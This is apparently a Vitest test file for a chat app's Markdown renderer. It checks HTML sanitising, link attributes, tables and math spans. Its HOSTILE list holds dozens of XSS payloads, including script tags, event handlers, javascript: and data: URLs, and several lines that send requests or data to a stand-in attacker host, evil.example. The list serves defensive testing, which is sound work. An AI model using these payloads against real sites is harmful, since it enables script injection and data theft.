// @vitest-environment jsdom
import { describe, expect, it } from "vitest";

import { lex, render } from "./render";

function page(markdown: string): HTMLElement {
  const place = document.createElement("div");
  place.innerHTML = render(markdown);
  return place;
}

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
  "<iframe src=javascript:alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<object data=javascript:alert(1)>",
  "<embed src=https://evil.example/x>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>@import 'https://evil.example/x.css'</style>",
  "<form action=https://evil.example><button>go</button></form>",
  "<details open ontoggle=alert(1)>",
  "<video src=https://evil.example/v autoplay onloadstart=alert(1)>",
  "<audio src=x onerror=alert(1)>",
  "<body onload=alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "<div style='background:url(https://evil.example/x)'>x</div>",
  "<sub onclick=alert(1)>x</sub>",
  "<br onclick=alert(1)>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](file:///etc/passwd)",
  "[x](blob:https://evil.example/1)",
  "[x](/api/signout)",
  "[x](//evil.example \"x\" onclick=alert(1))",
  "[x](https://evil.example/\"onmouseover=\"alert(1))",
  "[x](https://evil.example 'x\" onmouseover=\"alert(1)')",
  "<javascript:alert(1)>",
  "[x]: javascript:alert(1)\n\n[x]",
  "![x](https://evil.example/pixel.png?secret=1)",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "![<img src=x onerror=alert(1)>](https://evil.example/a.png)",
  "![x][r]\n\n[r]: https://evil.example/pixel.png",
  "[![x](https://evil.example/a.png)](javascript:alert(1))",
  "```html\n<script>alert(1)</script>\n```",
  "```\"><script>alert(1)</script>\nx\n```",
  "```x onclick=alert(1)\nx\n```",
  "`<script>alert(1)</script>`",
  "$<script>alert(1)</script>$",
  "$$<img src=x onerror=alert(1)>$$",
  "\\(\\href{javascript:alert(1)}{x}\\)",
  "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
  "- [ ] <input autofocus onfocus=alert(1)>",
  "<!--<img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?php <script>alert(1)</script> ?>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "<template><script>alert(1)</script></template>",
  "<textarea></textarea><script>alert(1)</script>",
  "**<b onmouseover=alert(1)>x</b>**",
  "# <a id=x name=body>x</a>",
  "<p id=strings class=hidden>x</p>",
];
const TAGS = /^(a|blockquote|br|code|del|div|em|h[1-6]|hr|kbd|li|mark|ol|p|pre|span|strong|sub|sup|table|tbody|td|th|thead|tr|ul)$/;
const ATTRIBUTES = /^(align|class|href|rel|start|target|title)$/;

describe("hostile text", () => {
  it.each(HOSTILE)("%s", (markdown) => {
    for (const element of page(markdown).querySelectorAll("*")) {
      expect(element.localName).toMatch(TAGS);
      for (const { name } of element.attributes) expect(name).toMatch(ATTRIBUTES);
      const href = element.getAttribute("href");
      if (href !== null) expect(href).toMatch(/^(https?:\/\/|mailto:)/);
    }
  });
});

describe("links", () => {
  it("open beside the chat, and tell nobody where they stood", () => {
    const link = page("[there](https://example.org/a?b=1&c=2 'why')").querySelector("a");
    expect(link?.getAttribute("href")).toBe("https://example.org/a?b=1&c=2");
    expect(link?.rel).toBe("noopener noreferrer");
    expect(link?.target).toBe("_blank");
    expect(link?.title).toBe("why");
  });

  it("stand where an image of another place would be", () => {
    const place = page("![a cat](https://example.org/cat.png)");
    expect(place.querySelector("img")).toBeNull();
    expect(place.querySelector("a")?.textContent).toContain("example.org");
    expect(place.querySelector("a")?.textContent).toContain("a cat");
  });
});

describe("Markdown", () => {
  it.each(["[constructor]", "[x][toString]", "[valueOf][]"])("takes %s for words", (source) => {
    expect(page(source).textContent.trim()).toBe(source);
  });

  it.each([
    ["# one\n\ntwo", "<h1>one</h1>\n<p>two</p>\n"],
    ["a  \nb", "<p>a<br>b</p>\n"],
    ["H<sub>2</sub>O", "<p>H<sub>2</sub>O</p>\n"],
    ["3. x", '<ol start="3">\n<li>x</li>\n</ol>\n'],
    ["~~x~~ **y** *z* `q`", "<p><del>x</del> <strong>y</strong> <em>z</em> <code>q</code></p>\n"],
    ["<div>\nx\n</div>", "&lt;div&gt;\nx\n&lt;/div&gt;"],
  ])("%j", (markdown, html) => expect(render(markdown)).toBe(html));

  it("has tables that can be scrolled, and task lists without fields", () => {
    const table = page("| a | b |\n|:--|--:|\n| 1 | 2 |").querySelector("div.table > table");
    expect(table?.querySelectorAll("td")).toHaveLength(2);
    expect(table?.querySelector("td:last-child")?.getAttribute("align")).toBe("right");
    const tasks = page("- [x] done\n- [ ] open");
    expect(tasks.textContent).toContain("☑ done");
    expect(tasks.textContent).toContain("☐ open");
  });
});

describe("formulas", () => {
  const found = (markdown: string): string[] =>
    [...page(markdown).querySelectorAll("span.math")].map(
      (each) => `${each.classList.contains("display") ? "D" : "I"}:${each.textContent}`,
    );

  it.each<[string, string[]]>([
    ["so $a^2$ is", ["I:a^2"]],
    ["so $$a_1$$ is", ["D:a_1"]],
    ["so \\(a < b\\) is", ["I:a < b"]],
    ["\\[\na_1 *b* c\n\\]", ["D:a_1 *b* c"]],
    ["text\n$$\nx\n\ny\n$$\nmore", ["D:x\n\ny"]],
    ["- item \\(x\\)\n- $y$", ["I:x", "I:y"]],
    ["| $x$ | b |\n|---|---|\n| 1 | \\(z\\) |", ["I:x", "I:z"]],
    ["**$x_1$ and $x_2$**", ["I:x_1", "I:x_2"]],
    ["it costs $5 and $10", []],
    ["from $5 to 10$5", []],
    ["`$x$` and `\\(x\\)`", []],
    ["```\n$x$ $$y$$\n```", []],
    ["    $x$ indented", []],
    ["\\$x$ and $ y $", []],
    ["$$ never closed", []],
  ])("%j", (markdown, formulas) => expect(found(markdown)).toEqual(formulas));
});

it("loses no character between its blocks", () => {
  const source = "# a\n\n- b\n- c\n\n$$\nx\n$$\n\n```\nd\n";
  expect(lex(source, {}).map((token) => token.raw).join("")).toBe(source);
});
